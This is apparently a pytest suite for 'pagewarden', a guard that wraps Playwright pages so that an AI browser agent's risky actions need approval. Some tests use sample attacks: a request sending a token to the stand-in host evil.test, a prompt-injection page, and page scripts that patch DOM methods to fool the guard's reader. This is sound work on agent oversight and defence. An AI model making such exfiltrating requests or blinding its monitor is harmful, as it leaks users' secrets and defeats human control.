"""The guarded surface: no way around the guard through wrapped objects, reads pass through."""

from __future__ import annotations

import inspect
import json
import re
from pathlib import Path
from typing import Any

import playwright.async_api as pw_async
import playwright.async_api._generated as pw_generated
import pytest
from playwright.async_api import BrowserContext, Locator, Page, expect

from pagewarden import ActionBlocked, ApprovalRequired, Decision, Guard, PolicySet
from pagewarden.interceptors import ACTIONS, READ_ONLY, Guarded

from .test_actions import DANGER


def _policy(rule: dict[str, Any], pid: str = "T-1") -> PolicySet:
    return PolicySet.from_dict(
        {
            "version": 1,
            "policies": [
                {
                    "id": pid,
                    "category": "execution",
                    "risk_level": "high",
                    "description": "test",
                    "rules": [rule],
                }
            ],
        }
    )


@pytest.mark.parametrize("type_name", sorted(ACTIONS))
def test_every_public_playwright_method_is_classified(type_name: str) -> None:
    """A method Playwright adds later must be classified on purpose (else it is 'unclassified')."""
    cls = getattr(pw_generated, type_name)
    public = {name for name, _ in inspect.getmembers(cls) if not name.startswith("_")}
    known = set(ACTIONS[type_name]) | set(READ_ONLY[type_name])
    assert public - known == set(), f"unclassified {type_name} members: {sorted(public - known)}"


async def test_isinstance_and_expect_still_work(page: Page) -> None:
    guarded = Guard().wrap(page)
    await guarded.goto("http://app.test/plain.html")
    assert isinstance(guarded, Page)
    locator = guarded.locator("h1")
    assert isinstance(locator, Locator) and isinstance(locator, Guarded)
    await expect(locator).to_have_text("Plain page")
    assert await guarded.title() == "Plain"
    assert await guarded.locator("button").count() == 1


async def test_reads_pass_through_without_trace_lines(page: Page, tmp_path: Path) -> None:
    guard = Guard(trace=tmp_path / "t.jsonl")
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/plain.html")
    lines_after_goto = (tmp_path / "t.jsonl").read_text().count("\n")
    assert await guarded.inner_text("h1") == "Plain page"
    assert await guarded.locator("h1").text_content() == "Plain page"
    assert "Plain page" in await guarded.content()
    await guarded.wait_for_selector("h1")
    await guarded.screenshot(path=str(tmp_path / "s.png"))
    assert (tmp_path / "t.jsonl").read_text().count("\n") == lines_after_goto == 1


async def test_popup_from_expect_popup_is_guarded(page: Page) -> None:
    guarded = Guard(DANGER).wrap(page)
    await guarded.goto("http://app.test/actions.html")
    async with guarded.expect_popup() as info:
        await guarded.click("#popup")
    popup = await info.value
    assert isinstance(popup, Guarded)
    await popup.wait_for_load_state()
    with pytest.raises(ApprovalRequired):
        await popup.click("#pbutton")
    assert await popup.unwrap().title() == "Plain"


async def test_popup_event_handler_receives_guarded_page(page: Page) -> None:
    guarded = Guard(DANGER).wrap(page)
    received: list[Any] = []
    guarded.on("popup", received.append)
    await guarded.goto("http://app.test/actions.html")
    async with guarded.expect_popup():
        await guarded.click("#popup")
    assert received and isinstance(received[0], Guarded)
    with pytest.raises(ApprovalRequired):
        await received[0].locator("#pbutton").click()


async def test_context_pages_and_new_page_are_guarded(page: Page) -> None:
    guard = Guard(DANGER)
    guarded = guard.wrap(page)
    context = guarded.context
    assert isinstance(context, BrowserContext) and isinstance(context, Guarded)
    new = await context.new_page()
    assert isinstance(new, Guarded)
    await new.goto("http://app.test/plain.html")
    with pytest.raises(ApprovalRequired):
        await new.get_by_role("button").click()
    assert all(isinstance(p, Guarded) for p in context.pages)
    assert guarded.main_frame.page == guarded
    await new.close()


async def test_locator_page_and_frame_page_stay_guarded(page: Page) -> None:
    guarded = Guard(DANGER).wrap(page)
    await guarded.goto("http://app.test/actions.html")
    via_locator = guarded.locator("body").page
    assert isinstance(via_locator, Guarded)
    with pytest.raises(ApprovalRequired):
        await via_locator.click("#danger")
    frame = guarded.frames[1]
    assert isinstance(frame, Guarded)
    with pytest.raises(ApprovalRequired):
        await frame.page.click("#danger")


@pytest.mark.parametrize(
    ("name", "act"),
    [
        ("evaluate", lambda p: p.evaluate("1 + 1")),
        ("locator.evaluate", lambda p: p.locator("h1").evaluate("e => e.textContent")),
        ("evaluate_handle", lambda p: p.evaluate_handle("document.body")),
        ("eval_on_selector", lambda p: p.eval_on_selector("h1", "e => e.id")),
        ("wait_for_function", lambda p: p.wait_for_function("true")),
        ("add_script_tag", lambda p: p.add_script_tag(content="window.x = 1")),
        ("add_style_tag", lambda p: p.add_style_tag(content="h1 { display: none }")),
        ("add_init_script", lambda p: p.add_init_script("window.y = 1")),
        ("expose_function", lambda p: p.expose_function("leak", lambda x: x)),
        ("set_content", lambda p: p.set_content("<h1>replaced</h1>")),
        ("route", lambda p: p.route("**/*", lambda route: route.continue_())),
        ("set_extra_http_headers", lambda p: p.set_extra_http_headers({"x-a": "b"})),
        (
            "context.add_cookies",
            lambda p: p.context.add_cookies([{"name": "a", "value": "b", "url": "http://app.test/"}]),
        ),
        ("context.new_cdp_session", lambda p: p.context.new_cdp_session(p)),
    ],
)
async def test_scripts_and_network_changes_need_approval(page: Page, name: str, act: Any) -> None:
    guarded = Guard().wrap(page)
    await guarded.goto("http://app.test/plain.html")
    with pytest.raises(ApprovalRequired) as caught:
        await act(guarded)
    assert caught.value.verdict.violated_policy_ids == ["PW-SCRIPT"]
    assert await page.title() == "Plain"
    assert await page.locator("h1").inner_text() == "Plain page"


async def test_approved_script_runs_and_returns(page: Page) -> None:
    guarded = Guard(approver=lambda v, s: s.action.kind == "evaluate").wrap(page)
    await guarded.goto("http://app.test/plain.html")
    assert await guarded.evaluate("1 + 41") == 42


@pytest.mark.parametrize("method", ["go_back", "go_forward", "reload"])
async def test_history_navigation_is_checked(page: Page, method: str) -> None:
    guard = Guard(_policy({"consent": {"actions": [method]}}))
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/plain.html")
    await guarded.goto("http://app.test/actions.html")
    if method == "go_forward":
        await page.go_back()
    before = page.url
    with pytest.raises(ApprovalRequired):
        await getattr(guarded, method)()
    assert page.url == before
    guard.approver = lambda verdict, step: True
    await getattr(guarded, method)()
    expected = {"go_back": "plain.html", "go_forward": "actions.html", "reload": before.rsplit("/", 1)[-1]}
    assert page.url.endswith(expected[method])


async def test_api_request_is_checked(page: Page, site: Any) -> None:
    guard = Guard(_policy({"consent": {"actions": ["request"]}}))
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/plain.html")
    before = len(site.requests_to("evil.test"))
    with pytest.raises(ApprovalRequired) as caught:
        await guarded.request.get("http://evil.test/plain.html?token=abc")
    assert caught.value.verdict.findings[0].evidence["action"] == "request"
    assert len(site.requests_to("evil.test")) == before


async def test_reasoning_is_recorded_and_previous_step_kept(page: Page, tmp_path: Path) -> None:
    guard = Guard(goal="Open the plain page", trace=tmp_path / "trace.jsonl")
    guarded = guard.wrap(page)
    guarded.reasoning("I will open the plain page first.")
    await guarded.goto("http://app.test/plain.html")
    await guarded.get_by_role("link", name="Back to actions").click(reasoning="Now I go back.")
    lines = [json.loads(line) for line in (tmp_path / "trace.jsonl").read_text().splitlines()]
    assert [line["step"]["reasoning"] for line in lines] == [
        "I will open the plain page first.",
        "Now I go back.",
    ]
    assert lines[1]["step"]["previous"]["action"]["kind"] == "goto"
    assert lines[1]["step"]["previous"]["reasoning"] == "I will open the plain page first."
    assert lines[1]["verdict"]["prediction"]["navigation"]["url"] == "http://app.test/actions.html"
    assert set(lines[1]["verdict"]["timings_ms"]) >= {"observe", "rules", "worldmodel", "execute"}


async def test_monitor_mode_logs_and_never_blocks(page: Page, tmp_path: Path) -> None:
    guard = Guard(DANGER, mode="monitor", trace=tmp_path / "trace.jsonl")
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/actions.html")
    await guarded.click("#danger")
    assert "click" in await page.evaluate("window.events")
    last = json.loads((tmp_path / "trace.jsonl").read_text().splitlines()[-1])
    assert last["verdict"]["decision"] == "ask"
    assert last["verdict"]["enforced"] is False


@pytest.mark.parametrize(
    ("approver", "runs"),
    [
        (lambda v, s: True, True),
        (lambda v, s: False, False),
        (lambda v, s: "yes", False),  # only True approves
        (lambda v, s: 1 / 0, False),  # a broken approver does not approve
    ],
    ids=["approves", "denies", "truthy-not-true", "raises"],
)
async def test_sync_approver(page: Page, approver: Any, runs: bool) -> None:
    guarded = Guard(DANGER, approver=approver).wrap(page)
    await guarded.goto("http://app.test/actions.html")
    if runs:
        await guarded.click("#danger")
    else:
        with pytest.raises(ApprovalRequired):
            await guarded.click("#danger")
    assert ("click" in await page.evaluate("window.events")) is runs


async def test_async_approver_sees_the_step(page: Page) -> None:
    asked: list[str] = []

    async def approver(verdict: Any, step: Any) -> bool:
        asked.append(step.observation.target.label)
        return verdict.decision is Decision.ASK

    guarded = Guard(DANGER, approver=approver).wrap(page)
    await guarded.goto("http://app.test/actions.html")
    await guarded.get_by_text("Danger button").click()
    assert asked == ["Danger button"]


async def test_blocked_verdict_carries_ids_explanation_guidance_prediction(page: Page) -> None:
    guard = Guard(_policy({"consent": {"match": ["Danger"]}}, pid="T-2"))
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/actions.html")
    with pytest.raises(ApprovalRequired) as caught:
        await guarded.click("#danger")
    verdict = caught.value.verdict
    assert verdict.violated_policy_ids == ["T-2"]
    assert "consent" in verdict.explanation and verdict.guidance
    assert verdict.prediction is not None and verdict.prediction.violated_policy_ids == ("T-2",)
    assert verdict.timings_ms["observe"] >= 0


async def test_page_loaded_before_the_guard_cannot_break_the_reader(page: Page) -> None:
    """The reader runs in Playwright's utility world: a page's patches do not reach it."""
    await page.goto("http://app.test/plain.html")  # loaded before the guard
    guarded = Guard().wrap(page)
    await page.evaluate("() => { window.getComputedStyle = () => { throw new Error('no styles'); }; }")
    await guarded.click("#pbutton")
    assert await page.title() == "clicked"


async def test_unreadable_target_fails_closed(page: Page) -> None:
    """Where only the page's own world can be read (Playwright set up the document's utility
    world before the guard was attached, and the locator is not one the guard reads over CDP),
    a page that breaks the reader gets a BLOCK."""
    await page.goto("http://app.test/plain.html")
    assert await page.locator("#pbutton").text_content()  # Playwright works in the page first
    guarded = Guard().wrap(page)
    await page.evaluate("() => { window.getComputedStyle = () => { throw new Error('no styles'); }; }")
    with pytest.raises(ActionBlocked) as caught:
        await guarded.locator("#pbutton").first.click()
    assert "facts" in caught.value.verdict.explanation
    assert await page.title() == "Plain"


async def test_reader_over_cdp_reaches_documents_older_than_the_guard(page: Page) -> None:
    """In the same document, a plain CSS locator is read over CDP in Playwright's utility world
    (`observe._direct` puts the reader there): the page's patches do not reach it."""
    await page.goto("http://app.test/plain.html")
    assert await page.locator("#pbutton").text_content()  # Playwright works in the page first
    guarded = Guard().wrap(page)
    await page.evaluate("() => { window.getComputedStyle = () => { throw new Error('no styles'); }; }")
    await guarded.click("#pbutton")
    assert await page.title() == "clicked"


async def test_patched_dom_cannot_fool_the_installed_reader(page: Page) -> None:
    """Page scripts that patch DOM primitives after load do not change what the guard reads."""
    guarded = Guard(goal="Open the plain page.").wrap(page)
    await guarded.goto("http://app.test/injection.html")
    await page.evaluate(
        """() => {
            window.getComputedStyle = () => { throw new Error('no styles'); };
            Element.prototype.getAttribute = function () { return null; };
            Object.defineProperty(Node.prototype, 'textContent', {get() { return 'harmless'; }});
            Object.defineProperty(HTMLElement.prototype, 'innerText', {get() { return 'harmless'; }});
        }"""
    )
    with pytest.raises(ActionBlocked) as caught:
        await guarded.locator("main a").first.click()  # CSS: Playwright's role engine breaks too
    assert caught.value.verdict.violated_policy_ids == ["PW-INJECTION"]
    assert caught.value.verdict.prediction is not None
    assert caught.value.verdict.prediction.navigation is not None
    assert caught.value.verdict.prediction.navigation.url.startswith("http://evil.test/plain.html")


async def test_playwright_errors_reach_the_agent_unchanged(page: Page) -> None:
    guarded = Guard().wrap(page)
    await guarded.goto("http://app.test/plain.html")
    with pytest.raises(pw_async.TimeoutError):
        await guarded.click("#does-not-exist", timeout=300)
    with pytest.raises(pw_async.Error, match=re.compile("strict mode violation", re.I)):
        await guarded.locator("a, button").click()


async def test_file_chooser_set_files_is_checked(page: Page) -> None:
    guard = Guard(_policy({"consent": {"actions": ["set_input_files"]}}))
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/events.html")
    async with guarded.expect_file_chooser() as info:
        await guarded.click("#upload")
    chooser = await info.value
    assert isinstance(chooser, Guarded) and isinstance(chooser.page, Guarded)
    with pytest.raises(ApprovalRequired) as caught:
        await chooser.set_files({"name": "a.txt", "mimeType": "text/plain", "buffer": b"x"})
    assert caught.value.verdict.findings[0].evidence["action"] == "set_input_files"
    assert await page.title() == "Events"


async def test_accepting_a_confirm_dialog_is_checked(page: Page) -> None:
    guarded = Guard(DANGER).wrap(page)
    outcomes: list[str] = []

    async def on_dialog(dialog: Any) -> None:
        assert isinstance(dialog, Guarded)
        try:
            await dialog.accept()
            outcomes.append("accepted")
        except ApprovalRequired as exc:
            outcomes.append(f"asked:{exc.verdict.prediction.consequence.value}")
            await dialog.dismiss()

    guarded.on("dialog", on_dialog)
    await guarded.goto("http://app.test/events.html")
    await guarded.click("#confirm")
    await page.wait_for_function("document.title !== 'Events'")
    assert outcomes == ["asked:irreversible"]
    assert await page.title() == "kept"


async def test_event_payloads_lead_back_to_guarded_objects(page: Page) -> None:
    guarded = Guard(DANGER).wrap(page)
    frames: list[Any] = []
    pages: list[Any] = []
    guarded.on("response", lambda response: frames.append(response.frame))
    guarded.on("console", lambda message: pages.append(message.page))
    await guarded.goto("http://app.test/actions.html")
    async with guarded.expect_console_message() as info:
        await page.evaluate("console.log('x')")  # raw: the page itself logs
    message = await info.value
    assert isinstance(message.page, Guarded)
    assert frames and all(isinstance(f, Guarded) for f in frames)
    assert pages and all(isinstance(p, Guarded) for p in pages)
    with pytest.raises(ApprovalRequired):
        await frames[0].click("#danger")
